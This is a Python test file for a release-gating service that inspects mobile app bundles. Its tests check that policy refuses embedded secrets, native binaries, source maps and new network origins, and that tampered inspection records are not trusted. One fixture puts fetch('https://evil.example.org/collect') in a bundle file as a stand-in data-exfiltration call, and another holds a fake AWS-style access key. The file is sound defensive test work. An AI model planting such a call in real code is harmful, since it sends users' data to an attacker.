"""What is inside of a bundle is looked at before it can reach a phone."""

import sqlite3
from typing import Any

import pytest

from sluice.reconcile.step import Hold
from sluice.resources.kinds import Key
from support.laps import QUICK, Laps, go_live
from support.team import Team, a_bundle

SECRET = b"const key = 'AKIAIOSFODNN7QRSTUVW';\n"
NATIVE = b"\x7fELF" + bytes(60)


def with_bundle_rules(team: Team, *, revision: int = 1, **rules: Any) -> dict[str, Any]:
    """Return the team's policy with a look into the bundle."""
    usual = team.policy_manifest()["spec"]["requirements"]
    requirements = [*usual, {"name": "contents", "bundle": rules}]
    return team.policy_manifest(revision=revision, requirements=requirements)


async def judged(laps: Laps, team: Team, files: dict[str, bytes], **rules: Any) -> Hold:
    """Release a bundle with these files that everybody has approved; return why it is held."""
    release = team.release_manifest("1.0.0", a_bundle("1.0.0", more=files))
    laps.apply(
        team.app_manifest(),
        with_bundle_rules(team, **rules),
        release,
        *(team.approval_manifest(who, release) for who in ("alice", "bob")),
        team.channel_manifest("shop-1.0.0", rollout=QUICK),
    )
    step = await laps.settle("shop")
    assert isinstance(step, Hold), step
    table = await laps.served("shop")
    assert table is None or (table.stable, table.candidate) == (None, None)
    return step


@pytest.mark.parametrize(
    ("name", "data", "rule", "reason"),
    [
        ("config.js", SECRET, "secrets", "SecretsFound"),
        ("libevil.so", NATIVE, "nativeCode", "NativeCodeFound"),
        ("app.js.map", b'{"version":3}', "sourceMaps", "SourceMapsFound"),
    ],
)
async def test_what_may_not_be_inside_is_not_offered_however_many_approve_it(
    laps: Laps, team: Team, name: str, data: bytes, rule: str, reason: str
) -> None:
    step = await judged(laps, team, {name: data}, **{rule: "Refuse"})

    assert step.reason == reason
    assert name in step.message


async def test_a_bundle_that_fits_is_offered(laps: Laps, team: Team) -> None:
    release = team.release_manifest("1.0.0")
    laps.apply(
        team.app_manifest(),
        with_bundle_rules(team, secrets="Refuse", nativeCode="Refuse", newOrigins="Refuse"),
        release,
        *(team.approval_manifest(who, release) for who in ("alice", "bob")),
        team.channel_manifest("shop-1.0.0", rollout=QUICK),
    )

    await laps.settle("shop")

    table = await laps.served("shop")
    assert table is not None
    assert table.candidate is not None


async def test_people_see_what_is_inside_before_they_approve(laps: Laps, team: Team) -> None:
    release = team.release_manifest("1.0.0", a_bundle("1.0.0", more={"config.js": SECRET}))
    laps.apply(
        team.app_manifest(),
        with_bundle_rules(team, secrets="Refuse"),
        release,
        team.channel_manifest("shop-1.0.0", rollout=QUICK),
    )

    await laps.settle("shop")

    observed = await laps.observer.channel(Key("Channel", "shop", "production"), laps.now)
    assert observed.verdict is not None
    told = {each.requirement: each.reason for each in observed.verdict.findings}
    assert told["contents"] == "SecretsFound"
    assert told["approved"] == "ApprovalsMissing"
    assert observed.publication is None


async def test_a_new_origin_is_found_by_comparing_with_what_is_served(
    laps: Laps, team: Team
) -> None:
    await go_live(laps, team, "1.0.0")
    policy = with_bundle_rules(team, revision=2, newOrigins="Refuse")
    evil = a_bundle("1.1.0", more={"more.js": b"fetch('https://evil.example.org/collect')"})
    release = team.release_manifest("1.1.0", evil)
    laps.apply(
        policy,
        release,
        *(team.approval_manifest(who, release) for who in ("alice", "bob")),
        team.channel_manifest("shop-1.1.0", rollout=QUICK),
    )

    step = await laps.settle("shop")

    assert step.reason == "OriginsNew"
    assert "https://evil.example.org" in step.message


async def test_a_report_that_somebody_else_wrote_counts_for_nothing(
    laps: Laps, team: Team, tmp_path: Any
) -> None:
    await judged(laps, team, {"config.js": SECRET}, secrets="Refuse")
    with sqlite3.connect(tmp_path / "sluice.db") as connection:
        connection.execute("UPDATE inspections SET sealed = replace(sealed, 'AWS', 'none')")

    step = await laps.settle("shop")

    assert step.reason == "SecretsFound"
